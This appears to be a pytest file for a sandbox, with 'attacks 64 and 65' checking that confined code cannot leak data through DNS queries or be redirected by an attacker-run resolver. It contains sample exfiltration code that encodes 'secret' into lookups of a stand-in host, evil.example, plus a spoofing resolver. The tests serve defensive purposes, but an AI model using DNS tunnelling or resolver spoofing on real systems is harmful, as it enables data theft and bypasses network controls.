"""Attacks 64 and 65: names are answered from the run's pins, and no question leaves the machine."""

from __future__ import annotations

import random
import socket
import struct
import threading
from collections.abc import Iterator

import pytest
from arena import Arena
from listeners import Listeners
from test_network import INSIDE, OUTSIDE, REACH

NAMED = REACH._replace(
    allowed=(), names=(("target.example", False, 0),), pins=(("target.example", (INSIDE,)),)
)

ASKING = """
def question(name):
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 1, 1)
def read(answer):
    code, count = answer[3] & 15, struct.unpack_from("!H", answer, 6)[0]
    return f"{code} {socket.inet_ntoa(answer[-4:]) if count else None}"
def packet(name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(20)
        s.sendto(question(name), (ARGS[0], 53))
        return read(s.recv(600))
def connected(name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(20)
        s.connect((ARGS[0], 53))
        s.send(question(name))
        return read(s.recv(600))
def stream(name):
    with socket.create_connection((ARGS[0], 53), 20) as s:
        s.sendall(struct.pack("!H", len(question(name))) + question(name))
        return read(s.recv(600)[2:])
"""


class Resolver:
    """A resolver that the attacker owns: it hears every question, and answers with OUTSIDE."""

    def __init__(self, address: str) -> None:
        self.address, self.questions = address, []
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind((address, 53))
        self._tcp = socket.create_server((address, 53))
        for act in (self._hear_packets, self._hear_streams):
            threading.Thread(target=act, daemon=True).start()

    def _answer(self, question: bytes) -> bytes:
        self.questions.append(question)
        head = question[:2] + struct.pack("!5H", 0x8180, 1, 1, 0, 0)
        return head + question[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\0\0\4" + socket.inet_aton(OUTSIDE)

    def _hear_packets(self) -> None:
        while True:
            question, peer = self._udp.recvfrom(600)
            if not question:
                return
            self._udp.sendto(self._answer(question), peer)

    def _hear_streams(self) -> None:
        while True:
            connection, _ = self._tcp.accept()
            with connection:
                question = connection.recv(600)
                if not question:
                    return
                answer = self._answer(question[2:])
                connection.sendall(struct.pack("!H", len(answer)) + answer)

    def close(self) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"", (self.address, 53))
        with socket.create_connection((self.address, 53)):
            pass
        self._udp.close()
        self._tcp.close()


@pytest.fixture
def resolver() -> Iterator[Resolver]:
    """At an address of this test's own. Only root may be at port 53, unless the machine lets others."""
    found = Resolver(f"127.{random.randrange(1, 255)}.{random.randrange(255)}.{random.randrange(1, 255)}")
    yield found
    found.close()


def test_64_a_secret_in_a_question(arena: Arena, resolver: Resolver):
    said = arena.run(ASKING + """
for name, ask in (("packet", packet), ("connected", connected), ("stream", stream)):
    print(name, "answer", ask(f"{name}.secret.evil.example"))
""", resolver.address, reach=tuple(NAMED))  # fmt: skip
    heard = [
        name
        for name in ("packet", "connected", "stream")
        if any(name.encode() in each for each in resolver.questions)
    ]
    if not arena.cell.confined:
        assert heard == ["packet", "connected", "stream"], said
    else:
        assert resolver.questions == []
        assert said.out == "".join(f"{name} answer 3 None\n" for name in ("packet", "connected", "stream")), (
            said
        )


def test_65_a_name_that_changes_its_address(arena: Arena, resolver: Resolver):
    with Listeners(INSIDE, OUTSIDE) as listeners:
        said = arena.run(ASKING + """
for name, ask in (("packet", packet), ("connected", connected), ("stream", stream)):
    code, address = ask("target.example").split()
    print(name, "answer", code, address)
    with socket.create_connection((address, int(ARGS[1])), 20) as s:
        s.recv(100)
""", resolver.address, listeners.port, reach=tuple(NAMED))  # fmt: skip
        escaped = listeners.heard(OUTSIDE)
        if not arena.cell.confined:
            assert len(escaped) == 3, said
        else:
            assert escaped == [] and resolver.questions == []
            assert len(listeners.heard(INSIDE)) == 3
            assert said.out.count(f"answer 0 {INSIDE}") == 3, said
